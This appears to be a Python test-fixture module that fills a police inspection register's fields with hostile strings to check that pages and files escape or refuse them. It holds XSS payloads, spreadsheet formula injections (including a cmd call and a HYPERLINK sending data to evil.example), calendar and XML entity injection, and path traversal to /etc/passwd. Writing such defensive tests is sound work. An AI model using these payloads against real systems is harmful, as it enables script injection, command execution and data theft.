"""A register with every declared place filled: with hostile words, or with harmless ones of the same length.

The places come from the model, so a new text field is filled by itself. A new field that is no text must be given a
value below, and a test says so.
"""

import json
from collections.abc import Callable, Iterator
from types import UnionType
from typing import Annotated, Any, Union, get_args, get_origin, get_type_hints

from register.records import model, values
from register.records.folder import Kind
from register.records.model import FACTS, HEADINGS, RESPONSE, Facts

Span = tuple[str | int, ...]
"""The way to a value: names of fields and numbers in lists."""

MARK = "window.__ran=1"
"""What every payload would run, so that a browser can be asked whether it did."""

HOSTILE_TEXTS = {
    "an element": f"</title></style></textarea></script><script>{MARK}</script>",
    "an attribute": f'" onmouseover="{MARK}" autofocus onfocus=\'{MARK}\' x=',
    "a picture": f"<img src=x onerror={MARK}>",
    "an SVG": f']]></text></svg><svg onload={MARK}><a xlink:href="javascript:{MARK}">',
    "entities": f"&lt;script&gt;{MARK}&lt;/script&gt;&#60;img src=x onerror={MARK}&#62;",
    "half a tag": f"<svg/onload={MARK}//<!--<script><![CDATA[<?xml",
    "a link in Markdown": f"[a](javascript:{MARK}) ![b](x.png) <javascript:{MARK}>",
    "a template": "{{ 7 * 7 }}{% raw %}${7*7}<%= 7*7 %>#{7*7}",
    "JSON in a page": f'\\u003cscript>\\"}}]</script><script>{MARK}//<!--<script>',
    "a formula": "=cmd|' /C calc'!A0",
    "a formula that begins with a plus": '+HYPERLINK("http://evil.example/?"&A1,"click")',
    "a formula that begins with a minus": "-2+3+cmd|' /C calc'!A0",
    "a formula that begins with an at sign": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula in full-width signs": "＝1+1",
    "a formula in a cell of its own": 'a",=1+1,"',
    "a property of a calendar": "a\\nATTACH:http://evil.example/;X=1,Y:\\,END:VEVENT\\r\\nBEGIN:VALARM",
    "lines of a calendar": "a\r\nATTACH:http://evil.example/\r\nEND:VEVENT\r\n\tBEGIN:VALARM\n---\n=1+1",
    "an entry of a feed": "</title></entry><entry><id>x</id></entry>]]><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc'>]>&y;",
    "a path": "../../../../etc/passwd\\..\\..\\con.html?x#y",
    "signs that combine": "Z\u0321\u0315a\u0338l\u0489go e\u0301 \ufb01 \ufdfa \u00bd \u0130 \u017f \u212a",
}
"""Texts that a field may hold. The checks let them pass, and every page and file must bear them."""

HIDDEN_TEXTS = {
    "a direction that turns": "safe\u202egnp.exe\u2066 <b>\u2069",
    "signs of no width": "<\u200bscript>java\u200cscript\u2060:\ufeff",
    "a line of another kind": f"a\u2028<script>{MARK}</script>\u2029b",
    "tags": "a" + "".join(chr(0xE0000 + ord(letter)) for letter in "script"),
    "control characters": f"a\x01<\x7fscript>{MARK}\x9b31m",
    "a line break of a calendar": "a\x85ATTACH:x\x0bEND:VEVENT",
    "the end of a text": "a\x00<script>",
}
"""Texts that the checks refuse, for the characters that nobody sees."""

HOSTILE_ADDRESS = "https://example.org/'onmouseover='%22%3Cscript%3E&quot;&#34;&lt;`{{7*7}}\\..\\%0d%0aX:y;=1+1"
"""A web address as hostile as one may be."""

REFUSED_ADDRESSES = (
    f"javascript:{MARK}",
    f"JaVaScRiPt:{MARK}",
    f"java\tscript:{MARK}",
    f"\x01javascript:{MARK}",
    f"&#106;avascript:{MARK}",
    f"data:text/html,<script>{MARK}</script>",
    f"vbscript:{MARK}",
    "//evil.example/",
    "file:///etc/passwd",
    f'https://example.org/" onmouseover="{MARK}',
)

REFUSED_WORDS = {
    "an element": f"<script>{MARK}</script>\n\n<img src=x onerror={MARK}>\n\n<svg onload={MARK}><style>*{{}}</style>",
    "an element in a line": f'Words <a href="javascript:{MARK}" onclick="{MARK}">a</a> and <b onmouseover={MARK}>b</b>.',
    "half a tag": f"Words <svg/onload={MARK}// and more\n\n<!--<script>-->\n\n<?php {MARK} ?>",
    **{f"a link to {address[:22]!r}": f"[a]({address})\n\n<{address}>\n\n[b]: {address}\n\n[b]" for address in (
        f"javascript:{MARK}", f"JaVaScRiPt:{MARK}", f"vbscript:{MARK}", f"data:text/html,{MARK}", f"&#106;avascript:{MARK}",
        f"javascript&colon;{MARK}",
    )},
    "a picture": f'![a" onerror="{MARK}](https://evil.example/x.png "b")',
    "a picture of a scheme": f"![a](javascript:{MARK})",
    "another heading": f"Words\n\n## </h2><script>{MARK}</script>\n\nWords",
}  # fmt: skip
"""Words below a heading that the checks refuse."""

WORDS_LET_PASS = {
    "a link with a title": f'[a](https://example.org/ "x\\" onmouseover=\\"{MARK}")',
    "a link that breaks out": f"[a](https://example.org/\"onmouseover='{MARK}'&quot;%22%3E)",
    "links that only look like a scheme": f"[a](java&Tab;script:{MARK}) [b](&#1;javascript:{MARK}) [c](\\javascript:{MARK})",
    "code": f'`<script>{MARK}</script>`\n\n```html" onload="{MARK}\n<script>{MARK}</script>\n```',
    "a table": f'| a | "\\> |\n| :-: | -: |\n| \\<em | onload={MARK} |',
    "entities": f"&lt;script&gt;{MARK}&lt;/script&gt; &#60;img src=x onerror={MARK}&#62;",
    "a formula": "=cmd|' /C calc'!A0",
}
"""Words below a heading that they let pass, and that Markdown makes more of than words."""

# What is no free text: words that name each other, days and numbers, so that the whole makes sense.
_IN_EVERY_KIND = {"corrections": [{"date": "2019-07-02", "of": "title", "papers": ["2019-06-28"]}], "formerly": []}
_GIVEN: dict[str, dict[str, Any]] = {
    "register.yml": {
        "corrections": [{"date": "2019-07-02", "of": "notice", "papers": ["2019-06-28"]}],
        "timezone": "Europe/London",
        "due_soon_days": "30",
        "response_days": "56",
        "statuses": [
            {"id": "red", "stage": "open", "colour": "red", "earlier": [{"until": "2018-12-31"}]},
            {"id": "closed", "stage": "ended", "colour": "grey", "earlier": []},
            {"id": "superseded", "stage": "ended", "colour": "grey", "earlier": []},
        ],
        "inspectorate_statuses": [{"id": "open", "stage": "open"}],
        "body": {"id": "west-midlands-police", "kind": "police", "area": "E23000014"},
        "licence": {"url": HOSTILE_ADDRESS},
        "contact": HOSTILE_ADDRESS,
        "began": "2019-01-01",
        "committees": [{"follows": ""}, {}],
        "more_statuses": [{"id": "paused", "stage": "open", "colour": "grey", "earlier": [{"until": "2018-12-31"}]}],
        "types": [
            {"id": "cause-of-concern", "parent": "true"},
            {"id": "recommendation"},
            {"id": "area-for-improvement"},
        ],
        "more_types": [{"id": "letter", "parent": "false"}],
    },
    "owners.yml": {
        "owners": [
            {"until": "2030-12-31", "contact": HOSTILE_ADDRESS, "formerly": []},
            {"until": "2030-12-31", "contact": HOSTILE_ADDRESS},
        ],
    },
    "frameworks/peel.yml": {
        "response_days": "none",
        "grades": [{"id": "good", "ranked": "true"}, {"id": "poor"}],
        "pillars": [{"id": "legitimacy"}],
        "questions": [
            {"id": "workforce", "pillar": "legitimacy", "graded": "true"},
            {"id": "vulnerable", "pillar": "legitimacy"},
        ],
        "comparable_with": ["older"],
        "formerly": ["peel-was"],
    },
    "frameworks/older.yml": {
        "grades": [{"id": "good"}],
        "pillars": [],
        "questions": [{"id": "custody"}],
        "comparable_with": [],
    },
    "inspections/peel.md": {
        "framework": "peel",
        "fieldwork_ended": "2019-01-31",
        "published": "2019-05-02",
        "recorded": "2019-05-02",
        "url": HOSTILE_ADDRESS,
        "response_published": "2019-06-20",
        "formerly": ["report-was"],
        "response_days": "56",
        "response_url": HOSTILE_ADDRESS,
        "grades": [
            {"question": "workforce", "grade": "poor", "judged": "2019", "previous": "good", "progress": "declined"},
            {"pillar": "legitimacy", "grade": "poor"},
        ],
    },
    "recommendations/cause.md": {
        "type": "cause-of-concern",
        "inspection": "peel",
        "pillar": "legitimacy",
        "question": "workforce",
        "grade": "poor",
        "status": "red",
        "received": "2019-05-02",
        "recorded": "2019-05-02",
        "accepted": "yes",
        "due": "2019-09-01",
        "next": {"by": "2019-10-10"},
        "inspectorate_status": "open",
        "also": ["vulnerable"],
        "priority": "high",
        "repeats": "older",
        "superseded_by": [],
        "formerly": ["cause-was"],
        "publish": "true",
        "links": [{"url": HOSTILE_ADDRESS}],
        "history": [
            {
                "date": "2019-05-02",
                "status": "red",
                "due": "2019-08-01",
                "inspectorate_status": "open",
                "next": {"by": "2019-10-10"},
            },
            {
                "date": "2019-07-01",
                "recorded": "2019-07-02",
                "due": "2019-09-01",
                "accepted": "yes",
                "inspection": "peel",
                "next": {"by": "2019-10-10"},
                "outcome": "done",
            },
        ],
    },
    "recommendations/child.md": {
        "type": "recommendation",
        "inspection": "peel",
        "question": "workforce",
        "also": [],
        "grade": "poor",
        "status": "red",
        "due": "2020-09-01",
        "next": {"by": "2019-10-10"},
        "parent": "cause",
        "superseded_by": [],
        "withheld": {"since": "2019-09-30"},
        "links": [],
        "history": [],
        "corrections": [],
    },
    "recommendations/older.md": {
        "type": "area-for-improvement",
        "inspection": "peel",
        "question": "workforce",
        "also": [],
        "grade": "poor",
        "status": "superseded",
        "superseded_by": ["cause"],
        "received": "2019-05-02",
        "closed": "2019-06-01",
        "links": [],
        "history": [{"date": "2019-05-02", "status": "red"}, {"date": "2019-06-01", "status": "superseded"}],
        "corrections": [],
    },
    "meetings/2019-06-28.md": {
        "as_at": "2019-06-20",
        "formerly": ["2019-06-27"],
        "next_meeting": "2019-09-26",
        "held": "true",
        "previous": "2019-03-28",
        "background_documents": [{"url": HOSTILE_ADDRESS}],
    },
}
_GIVEN = {path: _IN_EVERY_KIND | given for path, given in _GIVEN.items()}


def harmless(text: str) -> str:
    """A text of the same length and the same blanks that no program takes for anything else."""
    return "".join(sign if sign.isspace() else "x" for sign in text)


def register_of(text: str, words: str | None = None) -> dict[str, str]:
    """The files of a register with the text in every field that takes one, and the words below every heading."""
    return {path: written(path, fill(path, text), text if words is None else words) for path in _GIVEN}


def mixed_register(first: str, words: str, said: Callable[[str], str] = str) -> dict[str, str]:
    """The files of a register with another hostile text in each field, the first one in titles; said changes them."""
    texts = list(HOSTILE_TEXTS.values())
    names = sorted(set().union(*model.TEXT_FIELDS.values()) - {"title"})
    by_name = {"title": HOSTILE_TEXTS[first]} | {name: texts[n % len(texts)] for n, name in enumerate(names)}

    by_name |= dict.fromkeys(("follows", "committee"), by_name["name"])  # that of a committee
    by_name |= dict.fromkeys(("with", "role"), by_name["owner"])

    def at(span: Span) -> str:
        return _apart(said(by_name[model.name_at(span)]), span)

    return {path: written(path, _filled(FACTS[kind_at(path)], _GIVEN[path], at, ()), words) for path in _GIVEN}


def kind_at(path: str) -> Kind:
    """The kind of record at the path."""
    return next(kind for kind in Kind if path.startswith(kind))


def fill(path: str, text: str) -> dict[str, Any]:
    """The facts of the record at the path, with the text in every field that takes one."""

    return _filled(FACTS[kind_at(path)], _GIVEN[path], lambda span: _apart(text, span), ())


def _apart(text: str, span: Span) -> str:
    """The text with its place, where another of its list may not have the same."""
    places = [str(step) for step in span if isinstance(step, int)]
    apart = span[-1] in ("label", "name") or span[0] == "owners"
    return " ".join([text, *places]) if apart and set(places) - {"0"} else text


def written(path: str, facts: dict[str, Any], words: str) -> str:
    """The file with these facts and, where its kind has a body, the words below every heading that it may have."""
    listed = facts["owners"] if kind_at(path) is Kind.OWNERS else facts
    front = _escaped(json.dumps(listed, ensure_ascii=False))  # JSON is YAML
    if path.endswith(".yml"):
        return front
    titles = (*HEADINGS[kind_at(path)], *(["workforce"] if kind_at(path) is Kind.INSPECTION else []))
    words = f"{words}\n\nThis is {path}."  # no two findings have the same words
    sections = [f"## {title}\n\n{words}\n" for title in titles]
    sections = [
        f"{section}\n### 2019-06-03\n\n{words}\n" if title == RESPONSE else section
        for title, section in zip(titles, sections, strict=True)
    ]
    return f"---\n{front}\n---\n\n" + "\n".join(sections)


def _escaped(text: str) -> str:
    """Every sign that isn't ASCII as an escape, but those for which YAML and JSON have different ones."""
    return "".join(sign if sign.isascii() or sign > "\uffff" else f"\\u{ord(sign):04x}" for sign in text)


def is_text(declared: object) -> bool:
    """Whether a declared type is that of free text."""
    marks = getattr(declared, "__metadata__", ())
    return values.holds_text(marks)


def is_address(declared: object) -> bool:
    """Whether a declared type is that of a web address."""
    return declared in (values.WebAddress, values.SecureAddress)


def _filled(facts: type[Facts], given: dict[str, Any], at: Callable[[Span], str], path: Span) -> Any:
    return {
        name: value
        for name, declared in _types(facts).items()
        if (value := _value(declared, given.get(name), at, (*path, name))) is not None
    }


def _types(facts: type[Facts]) -> dict[str, Any]:
    """The declared type of each field, by the name that it has in a file."""
    types = get_type_hints(facts, include_extras=True)
    return {about.alias or name: types[name] for name, about in facts.model_fields.items()}


def _value(declared: Any, given: Any, at: Callable[[Span], str], path: Span) -> Any:
    if isinstance(declared, type) and issubclass(declared, Facts):
        return _filled(declared, given or {}, at, path)
    if get_origin(declared) is Annotated and get_origin(get_args(declared)[0]) is tuple:  # one or more
        return _value(get_args(declared)[0], given, at, path)
    if get_origin(declared) is tuple:
        items = [None] if given is None else given
        return [_value(get_args(declared)[0], item, at, (*path, number)) for number, item in enumerate(items)]
    if get_origin(declared) in (Union, UnionType):  # the other part is None
        present = get_args(declared)[0]
        may_lack = isinstance(present, type) and issubclass(present, Facts)  # a group of facts stands where it is given
        return None if may_lack and given is None else _value(present, given, at, path)
    return at(path) if given is None and is_text(declared) else given


def spans(facts: Any, path: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
    """The names on the way to every value in the facts; places in lists count as one."""
    if isinstance(facts, dict):
        for name, value in facts.items():
            yield from spans(value, (*path, name))
    elif isinstance(facts, list):
        for value in facts:
            yield from spans(value, path)
    else:
        yield path


def declared_places(kind: Kind) -> dict[tuple[str, ...], object]:
    """The type of every declared value of the kind, by the names on the way to it."""
    return {
        tuple(str(step) for step in path if not isinstance(step, int)): declared
        for path, declared in model._declared(FACTS[kind])
    }


def filled_places(kind: Kind) -> set[tuple[str, ...]]:
    """Where the register here has a value in some record of the kind."""
    return {span for path in _GIVEN if kind_at(path) is kind for span in spans(fill(path, "text"))}
